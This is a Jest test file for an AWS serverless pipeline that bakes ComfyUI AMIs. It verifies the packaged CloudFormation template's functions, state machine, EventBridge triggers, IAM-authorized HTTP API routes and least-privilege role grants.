import { readFileSync } from 'node:fs';
import path from 'node:path';
import { STATUS_ROUTES } from '../../functions/build-status/api';
import { CANCEL_ROUTES } from '../../functions/cancel-build/api';
import { AMI_STATE_CHANGE, COMMAND_INVOCATION_STATUS_CHANGE, INSTANCE_STATE_CHANGE } from '../../functions/receive-event/receive-event';
import { cancelRecordKey } from '../../functions/shared/cancellation';
import {
  configSchema,
  environmentInstanceTypes,
  environmentsForTag,
  type PipelineConfig,
  readConfigFile,
} from '../../functions/shared/config';
import { RECORD_TTL_ATTRIBUTE } from '../../functions/shared/lock-records';
import { requestRecordKey } from '../../functions/shared/requester';
import { MANAGED_BY, TAG } from '../../functions/shared/tags';
import { WAIT_TTL_ATTRIBUTE } from '../../functions/shared/wait-registry';
import { START_ROUTES } from '../../functions/start-build/api';
import { ENVIRONMENT_ACTION_ROUTES } from '../../functions/start-environment-action/api';
import { arnPlaceholder, STEPS, type Step } from '../../functions/steps';
import { awsCallsOfFunction, type CfnResource, packagedTemplate, ROOT, type Template } from './support/template';

const ASL_FILE = path.join(ROOT, 'statemachine', 'bake-ami.asl.json');
const PLACEHOLDER = /\$\{([A-Za-z0-9]+)\}/g;

/** The state machine's steps, each with its folder, timeout and AWS calls: functions/steps.ts. */
const STEP_FUNCTIONS: Record<string, Step> = STEPS;
/** The API's functions, each with the AWS calls its routes make (as IAM actions): what its role grants. */
const API_FUNCTIONS: Record<string, Pick<Step, 'folder' | 'calls'>> = {
  // Its build routes and the ECR push: the request's checks, the caller's record, the start.
  startBuild: {
    folder: 'start-build',
    calls: [
      'dynamodb:DeleteItem',
      'dynamodb:PutItem',
      'ecr:DescribeImages',
      'ecr:DescribeRepositories',
      'ssm:GetParametersByPath',
      'states:StartExecution',
    ],
  },
  // Rollback (history, latest, which AMIs exist) and promotion (the source's metadata, then a build's checks).
  startEnvironmentAction: {
    folder: 'start-environment-action',
    calls: [
      'ec2:DescribeImages',
      'ecr:DescribeImages',
      'ecr:DescribeRepositories',
      'ssm:GetParameter',
      'ssm:GetParametersByPath',
      'states:StartExecution',
    ],
  },
  buildStatus: { folder: 'build-status', calls: ['states:DescribeExecution', 'states:GetExecutionHistory'] },
  cancelBuild: { folder: 'cancel-build', calls: ['dynamodb:UpdateItem', 'states:DescribeExecution', 'states:GetExecutionHistory'] },
};
const SCHEDULED_FUNCTIONS: Record<string, { folder: string }> = {
  sweepBuilders: { folder: 'sweep-builders' },
  // Target of the AMI and command state-change rules.
  receiveEvent: { folder: 'receive-event' },
  measureAmiAge: { folder: 'measure-ami-age' },
};
const ALL_FUNCTIONS = [...Object.keys(STEP_FUNCTIONS), ...Object.keys(API_FUNCTIONS), ...Object.keys(SCHEDULED_FUNCTIONS)];
const isTokenWait = (state: Record<string, unknown>) => String(state.Resource).endsWith('.waitForTaskToken');

/** What EC2 asks of a customer-managed EBS key when it encrypts a volume or snapshot for the caller. */
const EBS_KEY_ACTIONS = [
  'kms:CreateGrant',
  'kms:Decrypt',
  'kms:DescribeKey',
  'kms:GenerateDataKeyWithoutPlaintext',
  'kms:ReEncryptFrom',
  'kms:ReEncryptTo',
];

/**
 * Actions AWS authorizes as part of another call, which no bundle calls itself. A role may hold
 * them only when its bundle makes that call; any other grant that its bundle does not call, and
 * any call its grants do not allow, fails the least-privilege test.
 */
const AUTHORIZED_WITH: Record<string, { actions: string[]; why: string }> = {
  'ec2:RunInstances': {
    actions: ['ec2:CreateTags', 'iam:PassRole', ...EBS_KEY_ACTIONS],
    why: 'TagSpecifications are authorized as CreateTags, the instance profile as PassRole, an encrypted volume as use of its key',
  },
  'ec2:CreateImage': {
    actions: ['ec2:CreateTags', ...EBS_KEY_ACTIONS],
    why: 'TagSpecifications are authorized as CreateTags, the encrypted snapshots as use of the volume key',
  },
};

/** The SSM agent's channel to the service: AWS documents these with Resource "*" only. */
const AGENT_CHANNEL = [
  'ec2messages:AcknowledgeMessage',
  'ec2messages:DeleteMessage',
  'ec2messages:FailMessage',
  'ec2messages:GetEndpoint',
  'ec2messages:GetMessages',
  'ec2messages:SendReply',
  'ssmmessages:CreateControlChannel',
  'ssmmessages:CreateDataChannel',
  'ssmmessages:OpenControlChannel',
  'ssmmessages:OpenDataChannel',
];

interface Statement {
  Sid?: string;
  Effect: string;
  Action: string | string[];
  Resource: unknown;
  Condition?: Record<string, Record<string, string | string[]>>;
}

const upperFirst = (s: string) => s[0].toUpperCase() + s.slice(1);
const functionId = (key: string) => `${upperFirst(key)}LambdaFunction`;
const roleId = (key: string) => `${upperFirst(key)}IamRoleLambdaExecution`;
const list = <T>(value: T | T[] | undefined): T[] => (value === undefined ? [] : Array.isArray(value) ? value : [value]);

/** A resource reference as comparable text: strings as is, Fn::Sub by its pattern, Ref/GetAtt by name. */
function refText(value: unknown): string {
  if (typeof value === 'string') return value;
  const v = value as Record<string, unknown>;
  if ('Fn::Sub' in v) return String(list(v['Fn::Sub'] as string | unknown[])[0]);
  if ('Ref' in v) return `Ref:${String(v.Ref)}`;
  if ('Fn::GetAtt' in v) return `GetAtt:${(v['Fn::GetAtt'] as string[]).join('.')}`;
  return JSON.stringify(value);
}

/** The role's inline policies and every AWS::IAM::Policy attached to it. */
function statementsOfRole(template: Template, logicalId: string): Statement[] {
  const role = template.Resources[logicalId];
  expect(role?.Type).toBe('AWS::IAM::Role');
  const policies = list(role.Properties.Policies as { PolicyDocument: { Statement: Statement[] } }[]);
  const attached = Object.values(template.Resources).filter(
    (r) =>
      r.Type === 'AWS::IAM::Policy' &&
      list(r.Properties.Roles as unknown[]).some((ref) => JSON.stringify(ref) === JSON.stringify({ Ref: logicalId })),
  );
  return [...policies, ...attached.map((r) => r.Properties as { PolicyDocument: { Statement: Statement[] } })].flatMap(
    (p) => p.PolicyDocument.Statement,
  );
}

/** The framework's statement that lets a function write its own log group. */
const isOwnLogStatement = (s: Statement) =>
  list(s.Action).every((a) => a.startsWith('logs:')) &&
  list(s.Resource)
    .map(refText)
    .every((r) => r.includes(':log-group:/aws/lambda/'));

/**
 * Grants no call of the bundle needs, and calls no grant allows: `calls` are the bundle's AWS
 * calls; a grant is needed when some call matches it or AWS authorizes it with one of the calls.
 */
function grantGaps(statements: Statement[], calls: string[]): { missing: string[]; unused: string[] } {
  const granted = grantedActions(statements.filter((s) => !isOwnLogStatement(s)));
  const authorizedWith = new Set(calls.flatMap((call) => AUTHORIZED_WITH[call]?.actions ?? []));
  return {
    missing: calls.filter((call) => ![...granted].some((g) => actionMatches(g, call))),
    unused: [...granted].filter((g) => !calls.some((call) => actionMatches(g, call)) && !authorizedWith.has(g)),
  };
}

function allStatements(template: Template): { role: string; statement: Statement }[] {
  return Object.entries(template.Resources)
    .filter(([, r]) => r.Type === 'AWS::IAM::Role')
    .flatMap(([id]) => statementsOfRole(template, id).map((statement) => ({ role: id, statement })));
}

function actionMatches(pattern: string, action: string): boolean {
  return new RegExp(
    `^${pattern
      .split('*')
      .map((p) => p.replace(/[.+?^${}()|[\]\\]/g, '\\$&'))
      .join('.*')}$`,
    'i',
  ).test(action);
}

const grantedActions = (statements: Statement[]) => new Set(statements.filter((s) => s.Effect === 'Allow').flatMap((s) => list(s.Action)));

/** The launch role's RunInstances statements, one per EC2 resource type (each type in exactly one). */
function runInstancesByResourceType(template: Template): Record<string, Statement> {
  const byType: Record<string, Statement> = {};
  for (const statement of statementsOfRole(template, roleId('launchBuilder')).filter((s) => list(s.Action).includes('ec2:RunInstances'))) {
    expect(list(statement.Action)).toEqual(['ec2:RunInstances']);
    expect(list(statement.Resource)).not.toContain('*');
    const text = JSON.stringify(statement.Resource);
    const types = [
      ...new Set(
        [...text.matchAll(/:(instance|volume|image|network-interface|subnet|security-group|spot-instances-request)\//g)].map((m) => m[1]),
      ),
    ];
    expect(types).toHaveLength(1);
    expect(byType[types[0]]).toBeUndefined();
    byType[types[0]] = statement;
  }
  return byType;
}

function stateMachine(template: Template): CfnResource {
  const machines = Object.values(template.Resources).filter((r) => r.Type === 'AWS::StepFunctions::StateMachine');
  expect(machines).toHaveLength(1);
  return machines[0];
}

/** The deployed definition: DefinitionString parsed (Definition would lose its null properties). */
function definitionOf(template: Template): unknown {
  const properties = stateMachine(template).Properties;
  expect(properties.Definition).toBeUndefined();
  expect(typeof properties.DefinitionString).toBe('string');
  return JSON.parse(properties.DefinitionString as string);
}

/** The subset of EventBridge pattern matching this stack uses: exact strings, wildcard, $or. */
function eventMatches(pattern: Record<string, unknown>, event: Record<string, unknown> | undefined): boolean {
  return Object.entries(pattern).every(([key, rule]) => {
    if (key === '$or') return (rule as Record<string, unknown>[]).some((branch) => eventMatches(branch, event));
    const value = event?.[key];
    if (!Array.isArray(rule)) return eventMatches(rule as Record<string, unknown>, value as Record<string, unknown> | undefined);
    if (typeof value !== 'string') return false;
    return rule.some((r: unknown) => {
      if (typeof r === 'string') return r === value;
      const matcher = r as { wildcard?: string };
      if (matcher.wildcard === undefined) throw new Error(`matcher ${JSON.stringify(r)} is not supported by this test`);
      return actionMatches(matcher.wildcard, value);
    });
  });
}

describe('the packaged stack (sls package --stage test)', () => {
  let template: Template;
  let config: PipelineConfig;
  let asl: Record<string, unknown> & { States: Record<string, Record<string, unknown>> };
  let aslText: string;

  beforeAll(() => {
    template = packagedTemplate();
    config = readConfigFile(path.join(ROOT, 'config', 'pipeline.json'));
    aslText = readFileSync(ASL_FILE, 'utf8');
    asl = JSON.parse(aslText);
  });

  describe('functions', () => {
    it('packages every function on nodejs22.x from functions/<folder>/handler.handler, each in its own artifact', () => {
      const folders = { ...STEP_FUNCTIONS, ...API_FUNCTIONS, ...SCHEDULED_FUNCTIONS };
      const keys = new Set<string>();
      for (const key of ALL_FUNCTIONS) {
        const fn = template.Resources[functionId(key)];
        expect(fn?.Type).toBe('AWS::Lambda::Function');
        expect(fn.Properties.Runtime).toBe('nodejs22.x');
        expect(fn.Properties.Handler).toBe(`functions/${folders[key].folder}/handler.handler`);
        const s3Key = (fn.Properties.Code as { S3Key: string }).S3Key;
        expect(s3Key.endsWith(`/${key}.zip`)).toBe(true);
        keys.add(s3Key);
      }
      expect(keys.size).toBe(ALL_FUNCTIONS.length);
      const lambdas = Object.values(template.Resources).filter((r) => r.Type === 'AWS::Lambda::Function');
      expect(lambdas).toHaveLength(ALL_FUNCTIONS.length);
    });

    it('gives every function the pipeline config as the schema parsed it, which the schema leaves as it is', () => {
      const parsed = readConfigFile(path.join(ROOT, 'config', 'pipeline.json'));
      for (const key of ALL_FUNCTIONS) {
        const variables = (template.Resources[functionId(key)].Properties.Environment as { Variables: Record<string, unknown> }).Variables;
        // The functions trust this JSON without the schema (config-env.ts): it must be the parsed
        // config, defaults filled in, and parsing it again must change nothing.
        expect(variables.PIPELINE_CONFIG).toBe(JSON.stringify(parsed));
        const again = configSchema.parse(JSON.parse(variables.PIPELINE_CONFIG as string));
        expect(JSON.stringify(again)).toBe(variables.PIPELINE_CONFIG);
        // Lambda refuses more than 4 KB of environment variables (names and values) per function.
        const size = Object.entries(variables).reduce(
          (sum, [name, value]) => sum + name.length + (typeof value === 'string' ? value.length : 100),
          0,
        );
        expect([key, size < 4096]).toEqual([key, true]);
      }
    });

    it('gives every step the description and timeout functions/steps.ts declares', () => {
      for (const [key, { description, timeoutSeconds }] of Object.entries(STEP_FUNCTIONS)) {
        const { Timeout, Description } = template.Resources[functionId(key)].Properties;
        expect([key, Timeout, Description]).toEqual([key, timeoutSeconds, description]);
      }
    });

    it('gives the launch steps the stack security group and the API functions the state machine', () => {
      for (const key of ['launchBuilder', 'launchTestInstance']) {
        const launch = (template.Resources[functionId(key)].Properties.Environment as { Variables: Record<string, unknown> }).Variables;
        expect([key, launch.BUILDER_SECURITY_GROUP_ID]).toEqual([
          key,
          { 'Fn::If': ['CreateBuilderSecurityGroup', { Ref: 'BuilderSecurityGroup' }, { Ref: 'AWS::NoValue' }] },
        ]);
      }
      for (const key of Object.keys(API_FUNCTIONS)) {
        const variables = (template.Resources[functionId(key)].Properties.Environment as { Variables: Record<string, unknown> }).Variables;
        expect(variables.STATE_MACHINE_ARN).toEqual({ Ref: 'BakeAmiStateMachine' });
      }
    });

    it('keeps a retention on every log group', () => {
      const groups = Object.entries(template.Resources).filter(([, r]) => r.Type === 'AWS::Logs::LogGroup');
      expect(groups.length).toBeGreaterThanOrEqual(ALL_FUNCTIONS.length + 2);
      for (const [id, group] of groups) expect([id, group.Properties.RetentionInDays]).toEqual([id, 30]);
    });
  });

  describe('builder sweeper', () => {
    it('runs on a schedule and may terminate only pipeline-tagged instances', () => {
      const rules = Object.values(template.Resources).filter(
        (r) => r.Type === 'AWS::Events::Rule' && typeof r.Properties.ScheduleExpression === 'string',
      );
      expect(rules.map((r) => r.Properties.ScheduleExpression)).toContain('rate(15 minutes)');
      const role = JSON.stringify(template.Resources[roleId('sweepBuilders')]);
      expect(role).toContain('ec2:TerminateInstances');
      expect(role).toContain(`aws:ResourceTag/${TAG.managedBy}`);
    });
  });

  describe('state machine', () => {
    it('embeds statemachine/bake-ami.asl.json as it is, "ResultPath": null included', () => {
      expect(definitionOf(template)).toEqual(asl);
    });

    it('substitutes exactly the placeholders the ASL file uses, each with its function ARN', () => {
      const placeholders = new Set([...aslText.matchAll(PLACEHOLDER)].map((m) => m[1]));
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, unknown>;
      expect(Object.keys(substitutions).sort()).toEqual([...placeholders].sort());
      expect(Object.keys(substitutions).sort()).toEqual(Object.keys(STEPS).map(arnPlaceholder).sort());
      for (const [name, value] of Object.entries(substitutions)) {
        const match = /^(.+)FunctionArn$/.exec(name);
        expect(match).not.toBeNull();
        expect(value).toEqual({ 'Fn::GetAtt': [`${match![1]}LambdaFunction`, 'Arn'] });
        expect(template.Resources[`${match![1]}LambdaFunction`]?.Type).toBe('AWS::Lambda::Function');
      }
    });

    it('leaves no ${ in the definition once the substitutions are applied', () => {
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, unknown>;
      let text = stateMachine(template).Properties.DefinitionString as string;
      for (const name of Object.keys(substitutions))
        text = text.split(`\${${name}}`).join('arn:aws:lambda:us-east-1:123456789012:function:x');
      expect(text).not.toContain('${');
    });

    it('gives every Task a TimeoutSeconds below its function timeout', () => {
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, { 'Fn::GetAtt': [string, string] }>;
      const tasks = Object.entries(asl.States).filter(([, s]) => s.Type === 'Task');
      expect(tasks.length).toBeGreaterThanOrEqual(Object.keys(STEP_FUNCTIONS).length);
      for (const [name, task] of tasks) {
        // A wait for an event invokes its function through lambda:invoke.waitForTaskToken.
        const target = isTokenWait(task) ? (task.Parameters as { FunctionName: string }).FunctionName : task.Resource;
        const placeholder = /^\$\{([A-Za-z0-9]+)\}$/.exec(String(target));
        expect([name, placeholder?.[1] !== undefined]).toEqual([name, true]);
        const fn = template.Resources[substitutions[placeholder![1]]['Fn::GetAtt'][0]];
        const taskTimeout = task.TimeoutSeconds as number;
        expect([name, typeof taskTimeout]).toEqual([name, 'number']);
        // A wait's timeout is its fallback poll: it outlasts its function, which returns at once.
        const fits = isTokenWait(task) ? taskTimeout > (fn.Properties.Timeout as number) : taskTimeout < (fn.Properties.Timeout as number);
        expect([name, fits]).toEqual([name, true]);
      }
    });

    it('lets its role invoke exactly the substituted functions, nothing else', () => {
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, unknown>;
      const roleRef = stateMachine(template).Properties.RoleArn as { 'Fn::GetAtt': [string, string] };
      const statements = statementsOfRole(template, roleRef['Fn::GetAtt'][0]);
      const invoke = statements.filter((s) => list(s.Action).some((a) => a.startsWith('lambda:')));
      expect(invoke).toHaveLength(1);
      expect(list(invoke[0].Action)).toEqual(['lambda:InvokeFunction']);
      expect(list(invoke[0].Resource).map(refText).sort()).toEqual(Object.values(substitutions).map(refText).sort());
    });

    it('logs to a log group of its own', () => {
      const logging = stateMachine(template).Properties.LoggingConfiguration as {
        Level: string;
        Destinations: { CloudWatchLogsLogGroup: { LogGroupArn: { 'Fn::GetAtt': [string, string] } } }[];
      };
      expect(['ERROR', 'ALL']).toContain(logging.Level);
      const group = template.Resources[logging.Destinations[0].CloudWatchLogsLogGroup.LogGroupArn['Fn::GetAtt'][0]];
      expect(group.Type).toBe('AWS::Logs::LogGroup');
      expect(group.Properties.LogGroupName).toMatch(/^\/aws\/vendedlogs\/states\//);
    });
  });

  describe('trigger 1: the ECR push rule', () => {
    const rules = () =>
      Object.entries(template.Resources).filter(
        ([, r]) =>
          r.Type === 'AWS::Events::Rule' && (r.Properties.EventPattern as { source?: string[] } | undefined)?.source?.[0] === 'aws.ecr',
      );
    const pattern = () => rules()[0][1].Properties.EventPattern as Record<string, unknown>;
    const pushEvent = (detail: Record<string, unknown>) => {
      const sample = JSON.parse(readFileSync(path.join(ROOT, 'events', 'ecr-push-dev.json'), 'utf8'));
      return { ...sample, detail: { ...sample.detail, ...detail } };
    };

    it('matches successful ECR pushes of the configured repositories, and targets startBuild', () => {
      expect(rules()).toHaveLength(1);
      const [ruleId, rule] = rules()[0];
      const p = pattern() as { source: string[]; 'detail-type': string[]; detail: Record<string, unknown> };
      expect(p.source).toEqual(['aws.ecr']);
      expect(p['detail-type']).toEqual(['ECR Image Action']);
      expect(p.detail['action-type']).toEqual(['PUSH']);
      expect(p.detail.result).toEqual(['SUCCESS']);
      expect(rule.Properties.Targets).toEqual([expect.objectContaining({ Arn: { 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] } })]);
      const permission = Object.values(template.Resources).find(
        (r) =>
          r.Type === 'AWS::Lambda::Permission' &&
          r.Properties.Principal === 'events.amazonaws.com' &&
          JSON.stringify(r.Properties.FunctionName) === JSON.stringify({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] }),
      );
      expect(permission?.Properties.FunctionName).toEqual({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] });
      expect(JSON.stringify(permission?.Properties.SourceArn)).toContain(JSON.stringify(rule.Properties.Name));
      expect(ruleId).toMatch(/EventBridgeRule$/);
    });

    it('uses wildcard matching for tag patterns with * and exact matching otherwise', () => {
      const flat = JSON.stringify(pattern());
      for (const env of Object.values(config.environments)) {
        for (const tag of env.tags) expect(flat).toContain(tag.includes('*') ? JSON.stringify({ wildcard: tag }) : JSON.stringify(tag));
      }
    });

    it.each([
      ['dev-latest', true],
      ['dev-20251127.1', true],
      ['staging-latest', true],
      ['staging-pr-42', true],
      ['prod-latest', true],
      ['prod-20251127', false],
      ['feature-x', false],
      ['latest', false],
    ])('agrees with the config on tag %s (delivered: %s)', (tag, delivered) => {
      const event = pushEvent({ 'image-tag': tag });
      expect(eventMatches(pattern(), event)).toBe(delivered);
      expect(environmentsForTag(config, 'comfyui', tag).length > 0).toBe(delivered);
    });

    it('ignores untagged pushes (per-platform manifests), failed pushes, deletions and other repositories', () => {
      const untagged = pushEvent({});
      delete untagged.detail['image-tag'];
      expect(eventMatches(pattern(), pushEvent({}))).toBe(true);
      expect(eventMatches(pattern(), untagged)).toBe(false);
      expect(eventMatches(pattern(), pushEvent({ result: 'FAILURE' }))).toBe(false);
      expect(eventMatches(pattern(), pushEvent({ 'action-type': 'DELETE' }))).toBe(false);
      expect(eventMatches(pattern(), pushEvent({ 'repository-name': 'someone-else' }))).toBe(false);
    });
  });

  describe('trigger 3: the HTTP API', () => {
    it('requires IAM authorization on every route', () => {
      const routes = Object.values(template.Resources).filter((r) => r.Type === 'AWS::ApiGatewayV2::Route');
      expect(routes.map((r) => r.Properties.RouteKey).sort()).toEqual([
        'GET /builds/{id}',
        'GET /environments/{env}/builds/{id}',
        'POST /builds',
        'POST /environments/{env}/builds',
        'POST /environments/{env}/builds/{id}/cancel',
        'POST /environments/{env}/promote',
        'POST /environments/{env}/rollback',
      ]);
      for (const route of routes)
        expect([route.Properties.RouteKey, route.Properties.AuthorizationType]).toEqual([route.Properties.RouteKey, 'AWS_IAM']);
      const v1Methods = Object.values(template.Resources).filter((r) => r.Type === 'AWS::ApiGateway::Method');
      expect(v1Methods).toHaveLength(0);
    });

    it('routes POST /builds to startBuild, GET /builds/{id} to buildStatus, rollback and promote to startEnvironmentAction', () => {
      const integrationOf = (routeKey: string) => {
        const route = Object.values(template.Resources).find(
          (r) => r.Type === 'AWS::ApiGatewayV2::Route' && r.Properties.RouteKey === routeKey,
        )!;
        const id = (route.Properties.Target as { 'Fn::Join': [string, [string, { Ref: string }]] })['Fn::Join'][1][1].Ref;
        return template.Resources[id].Properties.IntegrationUri;
      };
      expect(integrationOf('POST /builds')).toEqual({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] });
      expect(integrationOf('GET /builds/{id}')).toEqual({ 'Fn::GetAtt': [functionId('buildStatus'), 'Arn'] });
      expect(integrationOf('POST /environments/{env}/rollback')).toEqual({ 'Fn::GetAtt': [functionId('startEnvironmentAction'), 'Arn'] });
      expect(integrationOf('POST /environments/{env}/promote')).toEqual({ 'Fn::GetAtt': [functionId('startEnvironmentAction'), 'Arn'] });
    });

    it('throttles the stage as the config says and logs every request with its IAM caller', () => {
      const stages = Object.values(template.Resources).filter((r) => r.Type === 'AWS::ApiGatewayV2::Stage');
      expect(stages).toHaveLength(1);
      const stage = stages[0].Properties as {
        DefaultRouteSettings: Record<string, unknown>;
        AccessLogSettings: { DestinationArn: { 'Fn::GetAtt': [string, string] }; Format: string };
      };
      expect(stage.DefaultRouteSettings).toMatchObject({
        ThrottlingRateLimit: config.api.throttlingRateLimit,
        ThrottlingBurstLimit: config.api.throttlingBurstLimit,
      });
      const format = JSON.parse(stage.AccessLogSettings.Format) as Record<string, string>;
      expect(format).toMatchObject({
        requestId: '$context.requestId',
        caller: '$context.identity.userArn',
        routeKey: '$context.routeKey',
        status: '$context.status',
      });
      const group = template.Resources[stage.AccessLogSettings.DestinationArn['Fn::GetAtt'][0]];
      expect(group.Type).toBe('AWS::Logs::LogGroup');
      expect(group.Properties.RetentionInDays).toBe(30);
    });

    it('carries the environment in the path of routes IAM can grant per environment, to the functions whose route tables hold them', () => {
      const integrationOf = (routeKey: string) => {
        const route = Object.values(template.Resources).find(
          (r) => r.Type === 'AWS::ApiGatewayV2::Route' && r.Properties.RouteKey === routeKey,
        );
        expect([routeKey, route?.Properties.AuthorizationType]).toEqual([routeKey, 'AWS_IAM']);
        const id = (route!.Properties.Target as { 'Fn::Join': [string, [string, { Ref: string }]] })['Fn::Join'][1][1].Ref;
        return template.Resources[id].Properties.IntegrationUri;
      };
      expect(integrationOf('POST /environments/{env}/builds')).toEqual({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] });
      expect(integrationOf('GET /environments/{env}/builds/{id}')).toEqual({ 'Fn::GetAtt': [functionId('buildStatus'), 'Arn'] });
      // Every route the API serves is one the handlers' route tables answer, and the reverse.
      const served = Object.values(template.Resources)
        .filter((r) => r.Type === 'AWS::ApiGatewayV2::Route')
        .map((r) => r.Properties.RouteKey as string)
        .sort();
      expect(integrationOf('POST /environments/{env}/builds/{id}/cancel')).toEqual({ 'Fn::GetAtt': [functionId('cancelBuild'), 'Arn'] });
      expect(
        [
          ...Object.keys(START_ROUTES),
          ...Object.keys(ENVIRONMENT_ACTION_ROUTES),
          ...Object.keys(STATUS_ROUTES),
          ...Object.keys(CANCEL_ROUTES),
        ].sort(),
      ).toEqual(served);
    });

    it('lets the start function write, and the first step read, only requester records in the lock table', () => {
      const condition = { 'ForAllValues:StringLike': { 'dynamodb:LeadingKeys': ['request:*'] } };
      const writes = statementsOfRole(template, roleId('startBuild')).filter((s) => list(s.Action).some((a) => a.startsWith('dynamodb:')));
      expect(writes.map((s) => [list(s.Action).sort(), s.Condition])).toEqual([[['dynamodb:DeleteItem', 'dynamodb:PutItem'], condition]]);
      const reads = statementsOfRole(template, roleId('normalizeRequest')).filter((s) =>
        list(s.Action).some((a) => a.startsWith('dynamodb:')),
      );
      expect(reads.map((s) => [list(s.Action), s.Condition])).toEqual([[['dynamodb:GetItem'], condition]]);
      expect(requestRecordKey('dev-abc')).toMatch(/^request:/);
    });

    it('lets the waits register, and the receiver read and forget, only wait records in the lock table', () => {
      const condition = { 'ForAllValues:StringLike': { 'dynamodb:LeadingKeys': ['wait:*'] } };
      const dynamodbOf = (key: string) =>
        statementsOfRole(template, roleId(key))
          .filter((s) => list(s.Action).some((a) => a.startsWith('dynamodb:')))
          .map((s) => [list(s.Action).sort(), s.Condition]);
      // Besides reading its build's cancel record (cancel:*) before it registers.
      const cancelCondition = { 'ForAllValues:StringLike': { 'dynamodb:LeadingKeys': ['cancel:*'] } };
      expect(dynamodbOf('awaitEvent')).toEqual([
        [['dynamodb:GetItem'], cancelCondition],
        [['dynamodb:PutItem'], condition],
      ]);
      expect(dynamodbOf('receiveEvent')).toEqual([[['dynamodb:DeleteItem', 'dynamodb:GetItem'], condition]]);
      const ttl = template.Resources.LockTable.Properties.TimeToLiveSpecification;
      expect(ttl).toEqual({ AttributeName: WAIT_TTL_ATTRIBUTE, Enabled: true });
      expect(RECORD_TTL_ATTRIBUTE).toBe(WAIT_TTL_ATTRIBUTE);
    });

    it("sends the receiver the AMI state changes, instance stops and the pipeline documents' command ends, nothing else", () => {
      const targeted = Object.values(template.Resources).filter(
        (r) => r.Type === 'AWS::Events::Rule' && JSON.stringify(r.Properties.Targets).includes(functionId('receiveEvent')),
      );
      const patterns = targeted.map(
        (r) => r.Properties.EventPattern as { source: string[]; 'detail-type': string[]; detail?: Record<string, unknown> },
      );
      expect(patterns.map((p) => [p.source, p['detail-type']]).sort()).toEqual([
        [['aws.ec2'], [AMI_STATE_CHANGE]],
        [['aws.ec2'], [INSTANCE_STATE_CHANGE]],
        [['aws.ssm'], [COMMAND_INVOCATION_STATUS_CHANGE]],
      ]);
      const instance = patterns.find((p) => p['detail-type'][0] === INSTANCE_STATE_CHANGE)?.detail;
      expect(instance).toEqual({ state: ['stopped', 'terminated'] });
      const command = patterns.find((p) => p.source[0] === 'aws.ssm')?.detail;
      expect(command?.['document-name']).toEqual([config.documents.fresh, config.documents.incremental, config.documents.healthCheck]);
      expect(command?.status).toEqual([{ 'anything-but': ['Pending', 'InProgress', 'Delayed'] }]);
    });

    it('lets the steps that make something mark, the waits read, publish mark and the cancel function write only cancel records', () => {
      const condition = { 'ForAllValues:StringLike': { 'dynamodb:LeadingKeys': ['cancel:*'] } };
      const cancelStatements = (key: string) =>
        statementsOfRole(template, roleId(key))
          .filter((s) => JSON.stringify(s.Condition) === JSON.stringify(condition))
          .flatMap((s) => list(s.Action))
          .sort();
      // Before RunInstances and CreateImage one conditional write checks and marks the step begun;
      // before a wait registration a read (acquireLock reads its own table whole).
      for (const key of ['launchBuilder', 'createImage', 'launchTestInstance'])
        expect([key, cancelStatements(key)]).toEqual([key, ['dynamodb:UpdateItem']]);
      expect(cancelStatements('awaitEvent')).toEqual(['dynamodb:GetItem']);
      expect(cancelStatements('publishAmi')).toEqual(['dynamodb:UpdateItem']);
      expect(cancelStatements('cancelBuild')).toEqual(['dynamodb:UpdateItem']);
      // The other steps never read it; the records expire by TTL, so nothing deletes them.
      const others = ['prepareRollback', 'resolveBaseAmi', 'sendUpdateCommand', 'checkUpdateCommand', 'stopBuilder', 'checkImage'];
      others.push('sendHealthCheck', 'checkHealthCheck', 'cleanUp', 'rollBack', 'releaseLock');
      for (const key of others) expect([key, cancelStatements(key)]).toEqual([key, []]);
      expect(cancelRecordKey('dev-abc')).toMatch(/^cancel:/);
    });

    it('outputs the state machine ARN and the API URL', () => {
      expect(template.Outputs.StateMachineArn.Value).toEqual({ Ref: 'BakeAmiStateMachine' });
      expect(refText(template.Outputs.ApiUrl.Value)).toContain('${HttpApi}.execute-api.');
    });
  });

  describe('least privilege', () => {
    const resourceTag = { StringEquals: { [`aws:ResourceTag/${TAG.managedBy}`]: MANAGED_BY } };
    const requestTag = { StringEquals: { [`aws:RequestTag/${TAG.managedBy}`]: MANAGED_BY } };
    const withAction = (action: string) => allStatements(template).filter(({ statement }) => list(statement.Action).includes(action));

    it('gives every function a role of its own, holding logs on its own log group', () => {
      const roles = ALL_FUNCTIONS.map(
        (key) => (template.Resources[functionId(key)].Properties.Role as { 'Fn::GetAtt': [string, string] })['Fn::GetAtt'][0],
      );
      expect(roles).toEqual(ALL_FUNCTIONS.map(roleId));
      for (const key of ALL_FUNCTIONS) {
        const statements = statementsOfRole(template, roleId(key)).filter((s) => list(s.Action).some((a) => a.startsWith('logs:')));
        // checkUpdateCommand also reads the update command's output from the command log group.
        const commandOutput = statements.filter((s) =>
          list(s.Resource)
            .map(refText)
            .some((r) => r.includes(`:log-group:${config.commandLogGroup}:`)),
        );
        expect([key, commandOutput.length]).toEqual([key, key === 'checkUpdateCommand' ? 1 : 0]);
        if (commandOutput.length > 0)
          expect(list(commandOutput[0].Action).sort()).toEqual(['logs:DescribeLogStreams', 'logs:FilterLogEvents', 'logs:GetLogEvents']);
        const logs = statements.filter((s) => !commandOutput.includes(s));
        expect(logs).toHaveLength(1);
        expect(list(logs[0].Resource).map(refText)).toEqual([expect.stringContaining(`:log-group:/aws/lambda/comfyui-ami-test-${key}:`)]);
      }
    });

    it('enables fast snapshot restore only in publish, disables it only in clean up and roll back, each on pipeline-tagged snapshots', () => {
      for (const [action, keys] of [
        ['ec2:EnableFastSnapshotRestores', ['publishAmi']],
        ['ec2:DisableFastSnapshotRestores', ['cleanUp', 'rollBack']],
      ] as const) {
        const found = withAction(action);
        expect(found.map((f) => f.role).sort()).toEqual(keys.map(roleId).sort());
        for (const { statement } of found) {
          expect(list(statement.Resource).map(refText)).toEqual([expect.stringMatching(/:ec2:\$\{AWS::Region\}::snapshot\/\*$/)]);
          expect(statement.Condition).toEqual(resourceTag);
        }
      }
    });

